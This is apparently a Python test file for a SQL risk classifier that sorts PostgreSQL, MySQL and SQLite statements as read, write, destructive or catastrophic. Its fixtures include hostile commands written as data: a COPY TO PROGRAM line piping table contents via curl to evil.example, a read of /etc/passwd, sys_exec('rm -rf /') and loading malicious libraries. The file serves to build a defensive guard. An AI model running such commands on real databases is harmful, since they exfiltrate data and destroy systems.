"""classify_sql: the risk, verb and target of every statement, and failing closed."""

from __future__ import annotations

import subprocess
import sys

import pglast
import pytest
import sqlglot
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airlock.action import Risk, Target
from airlock.classify.sql import classify_sql, with_database

PG = "postgresql://app@db.prod:5432/shop"
MY = "mysql://app@db.prod:3306/shop"


def classify(sql: str, dialect: str = "postgresql", locator: str = PG) -> list[Target]:
    targets, problems = classify_sql(sql, dialect=dialect, database="shop", locator=locator)
    assert problems == [], problems
    return targets


def worst(targets: list[Target]) -> Target:
    return max(targets, key=lambda t: t.risk)


R, W, D, C = Risk.READ, Risk.WRITE, Risk.DESTRUCTIVE, Risk.CATASTROPHIC

POSTGRES = [
    # reads
    ("SELECT * FROM users", R, "sql.select"),
    ("SELECT 1", R, "sql.select"),
    ("TABLE users", R, "sql.select"),
    ("VALUES (1), (2)", R, "sql.select"),
    ("SHOW search_path", R, "sql.show"),
    ("SET search_path = app", R, "sql.set"),
    ("BEGIN", R, "sql.transaction"),
    ("COMMIT", R, "sql.transaction"),
    ("ROLLBACK", R, "sql.transaction"),
    ("EXPLAIN DELETE FROM users", R, "sql.explain"),
    ("EXPLAIN (ANALYZE false) DELETE FROM users", R, "sql.explain"),
    ("COPY users TO STDOUT", R, "sql.copy_to"),
    ("SELECT * FROM users FOR UPDATE", R, "sql.select"),
    # writes
    ("INSERT INTO users (id) VALUES (1)", W, "sql.insert"),
    ("INSERT INTO users VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 1", W, "sql.insert"),
    ("UPDATE users SET name = 'x' WHERE id = 1", W, "sql.update"),
    ("DELETE FROM users WHERE id = 1", W, "sql.delete"),
    ("DELETE FROM users WHERE id IN (SELECT id FROM banned)", W, "sql.delete"),
    ("DELETE FROM users WHERE 1=1 AND id = 5", W, "sql.delete"),
    ("UPDATE users SET a = 1 WHERE CURRENT OF c", W, "sql.update"),
    ("CREATE TABLE t (id int)", W, "sql.create_table"),
    ("CREATE INDEX i ON users (email)", W, "sql.create_index"),
    ("CREATE VIEW v AS SELECT 1", W, "sql.create_view"),
    ("CREATE SCHEMA app", W, "sql.create_schema"),
    ("CREATE DATABASE scratch", W, "sql.create_database"),
    ("CREATE ROLE reader LOGIN", W, "sql.create_role"),
    ("CREATE EXTENSION pgcrypto", W, "sql.create_extension"),
    ("ALTER TABLE users ADD COLUMN age int", W, "sql.alter_table.add_column"),
    ("ALTER TABLE users RENAME TO people", W, "sql.rename"),
    ("ALTER TABLE users ALTER COLUMN age TYPE bigint", W, "sql.alter_column_type"),
    ("COPY users FROM STDIN", W, "sql.copy_from"),
    ("GRANT SELECT ON users TO reader", W, "sql.grant"),
    ("GRANT reader TO bob", W, "sql.grant_role"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1", W, "sql.create_function"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", W, "sql.create_function"),
    ("VACUUM users", W, "sql.vacuum"),
    ("LOCK TABLE users", W, "sql.lock"),
    ("SELECT setval('s', 1)", W, "sql.call.setval"),
    ("SELECT pg_cancel_backend(42)", W, "sql.call.pg_cancel_backend"),
    ("ALTER SYSTEM SET work_mem = '1GB'", W, "sql.alter_system"),
    ("SET session_replication_role = replica", W, "sql.set"),
    ("SELECT * INTO archive FROM users", W, "sql.create_table"),
    # destructive
    ("DELETE FROM users", D, "sql.delete_all_rows"),
    ("UPDATE users SET admin = true", D, "sql.update_all_rows"),
    ("DELETE FROM users WHERE 1=1", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE true", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE 1", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE id = id", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE id = 5 OR 1=1", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE NOT false", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE 'a' = 'a'", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE 2 > 1", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE (1 = 1)", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE 1::boolean", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE NULL IS NULL", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE email LIKE '%'", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE EXISTS (SELECT 1)", D, "sql.delete_all_rows"),
    ("UPDATE users SET a = 1 WHERE true OR id = 3", D, "sql.update_all_rows"),
    ("TRUNCATE users", D, "sql.truncate"),
    ("TRUNCATE TABLE users CASCADE", D, "sql.truncate"),
    ("DROP TABLE users", D, "sql.drop_table"),
    ("DROP TABLE IF EXISTS public.users CASCADE", D, "sql.drop_table"),
    ("DROP VIEW v", D, "sql.drop_view"),
    ("DROP MATERIALIZED VIEW mv", D, "sql.drop_matview"),
    ("DROP INDEX i", D, "sql.drop_index"),
    ("DROP SEQUENCE s", D, "sql.drop_sequence"),
    ("DROP FUNCTION f(int)", D, "sql.drop_function"),
    ("DROP TYPE mood", D, "sql.drop_type"),
    ("DROP EXTENSION pgcrypto", D, "sql.drop_extension"),
    ("ALTER TABLE users DROP COLUMN email", D, "sql.drop_column"),
    ("ALTER TABLE users DISABLE ROW LEVEL SECURITY", D, "sql.disable_row_security"),
    ("DROP OWNED BY bob", D, "sql.drop_owned"),
    ("REASSIGN OWNED BY bob TO mallory", D, "sql.reassign_owned"),
    ("REVOKE SELECT ON users FROM reader", D, "sql.revoke"),
    ("REVOKE reader FROM bob", D, "sql.revoke_role"),
    ("GRANT ALL ON users TO bob", D, "sql.grant_wide"),
    ("GRANT SELECT ON users TO PUBLIC", D, "sql.grant_wide"),
    ("GRANT SELECT ON users TO bob WITH GRANT OPTION", D, "sql.grant_wide"),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob", W, "sql.grant"),
    ("GRANT SELECT, UPDATE ON ALL TABLES IN SCHEMA public TO bob", D, "sql.grant_wide"),
    ("GRANT USAGE ON ALL SEQUENCES IN SCHEMA public TO bob", D, "sql.grant_wide"),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", D, "sql.grant_wide"),
    ("GRANT pg_execute_server_program TO bob", D, "sql.grant_wide"),
    ("GRANT reader TO bob WITH ADMIN OPTION", D, "sql.grant_wide"),
    ("ALTER ROLE bob SUPERUSER", D, "sql.alter_role_privileged"),
    ("ALTER USER bob WITH BYPASSRLS", D, "sql.alter_role_privileged"),
    ("CREATE ROLE boss SUPERUSER LOGIN", D, "sql.alter_role_privileged"),
    ("DO $$ BEGIN DELETE FROM users; END $$", D, "sql.do_block"),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
        D,
        "sql.create_function",
    ),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", D, "sql.create_function"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'f'", D, "sql.create_function"),
    ("CALL nightly_cleanup()", D, "sql.call"),
    ("COPY users TO PROGRAM 'curl -d @- evil.example'", D, "sql.copy_program"),
    ("COPY users FROM PROGRAM 'cat /etc/passwd'", D, "sql.copy_program"),
    ("COPY users TO '/var/lib/postgresql/x'", D, "sql.copy_to_file"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", D, "sql.call.pg_terminate_backend"),
    ("SELECT lo_unlink(42)", D, "sql.call.lo_unlink"),
    ("SELECT pg_drop_replication_slot('s')", D, "sql.call.pg_drop_replication_slot"),
    ("SELECT pg_catalog.pg_terminate_backend(1)", D, "sql.call.pg_terminate_backend"),
    ("SELECT dblink_exec('conn', 'DROP TABLE x')", D, "sql.call.dblink_exec"),
    ("LOAD 'evil.so'", D, "sql.load"),
    ("EXPLAIN ANALYZE DELETE FROM users", D, "sql.delete_all_rows"),
    (
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
        D,
        "sql.delete_all_rows",
    ),
    ("COPY (DELETE FROM users RETURNING *) TO STDOUT", D, "sql.delete_all_rows"),
    ("INSERT INTO log SELECT pg_terminate_backend(1)", D, "sql.call.pg_terminate_backend"),
    ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", D, "sql.merge_all_rows"),
    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM audit", D, "sql.delete_all_rows"),
    ("PREPARE wipe AS DELETE FROM users", D, "sql.delete_all_rows"),
    # catastrophic
    ("DROP DATABASE shop", C, "sql.drop_database"),
    ("DROP DATABASE IF EXISTS shop WITH (FORCE)", C, "sql.drop_database"),
    ("DROP SCHEMA app", C, "sql.drop_schema"),
    ("DROP SCHEMA app CASCADE", C, "sql.drop_schema"),
    ("DROP ROLE bob", C, "sql.drop_role"),
    ("DROP USER bob", C, "sql.drop_role"),
]


@pytest.mark.parametrize(("sql", "risk", "verb"), POSTGRES)
def test_postgres_statement_has_the_documented_risk_and_verb(sql: str, risk: Risk, verb: str):
    targets = classify(sql)
    assert worst(targets).risk == risk
    assert verb in {t.verb for t in targets if t.risk == risk}


MYSQL = [
    ("SELECT * FROM users", R, "sql.select"),
    ("SHOW TABLES", R, "sql.show"),
    ("DESCRIBE users", R, "sql.show"),
    ("EXPLAIN SELECT 1", R, "sql.show"),
    ("USE other", R, "sql.use"),
    ("SET autocommit = 0", R, "sql.set"),
    ("START TRANSACTION", R, "sql.transaction"),
    ("SAVEPOINT s", R, "sql.transaction"),
    ("INSERT INTO users VALUES (1)", W, "sql.insert"),
    ("INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", W, "sql.insert"),
    ("REPLACE INTO users VALUES (1)", W, "sql.replace"),
    ("UPDATE users SET a = 1 WHERE id = 2", W, "sql.update"),
    ("DELETE FROM users WHERE id = 2", W, "sql.delete"),
    ("CREATE TABLE t (a INT)", W, "sql.create_table"),
    ("CREATE DATABASE scratch", W, "sql.create_database"),
    ("ALTER TABLE t ADD COLUMN c INT", W, "sql.alter_table"),
    ("GRANT SELECT ON shop.users TO 'reader'@'%'", W, "sql.grant"),
    ("SET GLOBAL max_connections = 10", W, "sql.set_global"),
    ("FLUSH PRIVILEGES", W, "sql.flush"),
    ("LOAD DATA INFILE '/tmp/x.csv' INTO TABLE t", W, "sql.load_data"),
    ("SELECT * FROM t INTO OUTFILE '/tmp/x'", W, "sql.select_into_outfile"),
    ("DELETE FROM users", D, "sql.delete_all_rows"),
    ("DELETE FROM users LIMIT 10", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE 1", D, "sql.delete_all_rows"),
    ("DELETE FROM users WHERE TRUE", D, "sql.delete_all_rows"),
    ("UPDATE users SET a = 1 WHERE id = id", D, "sql.update_all_rows"),
    ("UPDATE users SET a = 1 WHERE id = 3 OR 1 = 1", D, "sql.update_all_rows"),
    ("TRUNCATE TABLE users", D, "sql.truncate"),
    ("DROP TABLE users", D, "sql.drop_table"),
    ("DROP VIEW v", D, "sql.drop_view"),
    ("DROP INDEX i ON t", D, "sql.drop_index"),
    ("ALTER TABLE users DROP COLUMN email", D, "sql.drop_column"),
    ("ALTER TABLE users ENGINE=BLACKHOLE", D, "sql.alter_table.engine"),
    ("CREATE OR REPLACE TABLE t (a INT)", D, "sql.create_table"),
    ("GRANT ALL ON *.* TO 'x'@'%' WITH GRANT OPTION", D, "sql.grant_wide"),
    ("REVOKE SELECT ON t FROM u", D, "sql.revoke"),
    ("KILL 42", D, "sql.kill"),
    ("SHUTDOWN", D, "sql.shutdown"),
    ("PURGE BINARY LOGS TO 'mysql-bin.010'", D, "sql.purge"),
    ("RESET MASTER", D, "sql.reset"),
    ("CALL cleanup()", D, "sql.call"),
    ("SELECT sys_exec('rm -rf /')", D, "sql.call.sys_exec"),
    ("CREATE PROCEDURE p() BEGIN DELETE FROM t; END", D, "sql.create_procedure"),
    ("/*!40000 DROP TABLE users */", D, "sql.drop_table"),
    ("DROP DATABASE shop", C, "sql.drop_database"),
    ("DROP SCHEMA shop", C, "sql.drop_database"),
    ("DROP USER 'bob'@'%'", C, "sql.drop_role"),
]


@pytest.mark.parametrize(("sql", "risk", "verb"), MYSQL)
def test_mysql_statement_has_the_documented_risk_and_verb(sql: str, risk: Risk, verb: str):
    targets = classify(sql, dialect="mysql", locator=MY)
    assert worst(targets).risk == risk
    assert verb in {t.verb for t in targets if t.risk == risk}


SQLITE = [
    ("SELECT * FROM t", R, "sql.select"),
    ("PRAGMA table_info(t)", R, "sql.pragma"),
    ("PRAGMA integrity_check", R, "sql.pragma"),
    ("EXPLAIN QUERY PLAN SELECT 1", R, "sql.explain"),
    ("BEGIN IMMEDIATE", R, "sql.transaction"),
    ("INSERT OR REPLACE INTO t VALUES (1)", W, "sql.insert"),
    ("PRAGMA journal_mode = WAL", W, "sql.pragma"),
    ("ATTACH DATABASE 'other.db' AS o", W, "sql.attach"),
    ("VACUUM", W, "sql.vacuum"),
    ("DELETE FROM t", D, "sql.delete_all_rows"),
    ("DELETE FROM t WHERE 1 = 1", D, "sql.delete_all_rows"),
    ("DROP TABLE t", D, "sql.drop_table"),
    ("ALTER TABLE t DROP COLUMN c", D, "sql.drop_column"),
    ("PRAGMA writable_schema = ON", D, "sql.pragma"),
    ("SELECT load_extension('evil')", D, "sql.call.load_extension"),
    ("CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END", D, "sql.create_trigger"),
]


@pytest.mark.parametrize(("sql", "risk", "verb"), SQLITE)
def test_sqlite_statement_has_the_documented_risk_and_verb(sql: str, risk: Risk, verb: str):
    targets = classify(sql, dialect="sqlite", locator="sqlite:/srv/app.db")
    assert worst(targets).risk == risk
    assert verb in {t.verb for t in targets if t.risk == risk}


def test_every_statement_of_a_multi_statement_string_yields_its_own_target():
    targets = classify("BEGIN; DELETE FROM users WHERE id = 1; DROP TABLE audit; COMMIT;")
    assert [t.verb for t in targets] == [
        "sql.transaction",
        "sql.delete",
        "sql.drop_table",
        "sql.transaction",
    ]


def test_drop_table_of_several_tables_yields_one_target_each():
    targets = classify("DROP TABLE a, app.b")
    assert [t.name for t in targets] == ["a", "app.b"]


def test_targets_carry_tool_locator_and_human_detail():
    (target,) = classify_sql("DELETE FROM public.users", locator=PG, tool="psql")[0]
    assert target.kind == "rows"
    assert target.name == "table public.users"
    assert target.tool == "psql"
    assert target.locator == PG
    assert target.detail == "DELETE without WHERE"
    assert target.reversible is False


def test_reads_are_reversible_and_destructive_targets_are_not():
    targets = classify("SELECT 1; DROP TABLE t")
    assert {t.verb: t.reversible for t in targets} == {"sql.select": True, "sql.drop_table": False}


def test_drop_database_locator_names_the_dropped_database():
    (target,) = classify("DROP DATABASE billing")
    assert target.name == "billing"
    assert target.locator == "postgresql://app@db.prod:5432/billing"


def test_mysql_drop_database_locator_names_the_dropped_database():
    (target,) = classify("DROP DATABASE billing", dialect="mysql", locator=MY)
    assert target.locator == "mysql://app@db.prod:3306/billing"


def test_mysql_use_moves_later_statements_to_the_other_database():
    targets = classify("USE billing; DROP TABLE invoices", dialect="mysql", locator=MY)
    assert targets[-1].locator == "mysql://app@db.prod:3306/billing"


def test_mysql_qualified_table_is_located_in_its_own_database():
    (target,) = classify("DROP TABLE billing.invoices", dialect="mysql", locator=MY)
    assert target.locator == "mysql://app@db.prod:3306/billing"


def test_with_database_replaces_only_the_path_of_a_url():
    assert with_database("postgresql://u@h:5432/a?sslmode=require", "b") == (
        "postgresql://u@h:5432/b?sslmode=require"
    )
    assert with_database("sqlite:/srv/app.db", "other") == "sqlite:/srv/app.db"
    assert with_database("", "x") == ""


@pytest.mark.parametrize("dialect", ["postgresql", "mysql", "sqlite"])
@pytest.mark.parametrize("sql", ["", "   \n\t", "-- just a comment", "/* block */", ";"])
def test_empty_or_comment_only_sql_yields_nothing_and_no_problem(sql: str, dialect: str):
    assert classify_sql(sql, dialect=dialect) == ([], [])


@pytest.mark.parametrize("dialect", ["postgresql", "mysql", "sqlite"])
@pytest.mark.parametrize(
    "sql",
    ["DELET FROM users", "SELECT 'unterminated", "\\dt", "hello world", "DROP TABLE x; \\gexec"],
)
def test_sql_the_parser_rejects_is_a_problem(sql: str, dialect: str):
    _, problems = classify_sql(sql, dialect=dialect)
    assert problems


def test_readable_statements_are_still_reported_next_to_an_unparsable_one():
    targets, problems = classify_sql("SELECT 1; garbage here; DROP TABLE x")
    assert problems
    assert "sql.drop_table" in {t.verb for t in targets}


def test_a_nul_byte_is_a_problem_because_the_parser_would_stop_reading_there():
    targets, problems = classify_sql("SELECT 1\x00; DROP TABLE users")
    assert problems and not targets


def test_execute_of_a_statement_prepared_elsewhere_is_a_problem():
    _, problems = classify_sql("EXECUTE wipe")
    assert problems


def test_execute_of_a_statement_prepared_in_the_same_text_is_not_a_problem():
    targets, problems = classify_sql("PREPARE p AS SELECT 1; EXECUTE p")
    assert problems == []
    assert "sql.execute" in {t.verb for t in targets}


def test_unknown_dialect_is_a_problem():
    targets, problems = classify_sql("SELECT 1", dialect="oracle")
    assert targets == [] and problems


@pytest.mark.parametrize("dialect", ["pg", "postgres", "mariadb", "sqlite3", "MySQL"])
def test_dialect_aliases_are_accepted(dialect: str):
    targets, problems = classify_sql("DROP TABLE t", dialect=dialect)
    assert problems == []
    assert targets[0].verb == "sql.drop_table"


def test_importing_the_module_does_not_import_a_parser():
    code = (
        "import sys, airlock.classify.sql; "
        "print(any(m in sys.modules for m in ('pglast', 'sqlglot')))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def _pg_rejects(text: str) -> bool:
    try:
        pglast.parse_sql(text)
    except pglast.parser.ParseError:
        return True
    return False


def _glot_rejects(text: str, dialect: str) -> bool:
    try:
        sqlglot.parse(text, read=dialect)
    except sqlglot.errors.SqlglotError:
        return True
    return False


SQLISH = st.lists(
    st.sampled_from(
        [
            "SELECT",
            "DELETE",
            "FROM",
            "WHERE",
            "1=1",
            "DROP",
            "TABLE",
            "users",
            ";",
            "'",
            "$$",
            "(",
            ")",
            "--",
            "/*",
            "*/",
            "OR",
            "x",
            "=",
            "INSERT",
            "INTO",
            "VALUES",
            "GRANT",
            "ALL",
            "TO",
            "BEGIN",
            "END",
            "CREATE",
            "FUNCTION",
            "DO",
            "\\dt",
            "\n",
            "\x00",
            "`",
            '"',
            "#",
            "SET",
            "GLOBAL",
            "TRUNCATE",
            "UPDATE",
            "USE",
        ]
    ),
    max_size=12,
).map(" ".join)
TEXT = st.one_of(st.text(max_size=80), SQLISH)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    text=st.one_of(st.text(), SQLISH), dialect=st.sampled_from(["postgresql", "mysql", "sqlite"])
)
def test_classify_sql_never_raises(text: str, dialect: str):
    targets, problems = classify_sql(text, dialect=dialect, locator=PG)
    assert isinstance(targets, list) and isinstance(problems, list)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=TEXT)
def test_text_postgres_rejects_is_never_silently_empty(text: str):
    targets, problems = classify_sql(text, dialect="postgresql")
    if _pg_rejects(text) or "\x00" in text:
        assert targets or problems


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=TEXT, dialect=st.sampled_from(["mysql", "sqlite"]))
def test_text_sqlglot_rejects_is_never_silently_empty(text: str, dialect: str):
    targets, problems = classify_sql(text, dialect=dialect)
    if _glot_rejects(text, dialect):
        assert targets or problems


@settings(max_examples=200, deadline=None)
@given(text=SQLISH.filter(lambda t: t.strip() != ""))
def test_nonempty_statements_never_come_back_with_nothing(text: str):
    # a statement the parser accepts must still produce a target or a problem
    for dialect in ("postgresql", "mysql", "sqlite"):
        targets, problems = classify_sql(text, dialect=dialect)
        if not targets and not problems:
            stripped = text.replace(";", "").replace("\n", "").strip()
            assert stripped == "" or stripped.startswith(("--", "/*", "#")), (dialect, text)
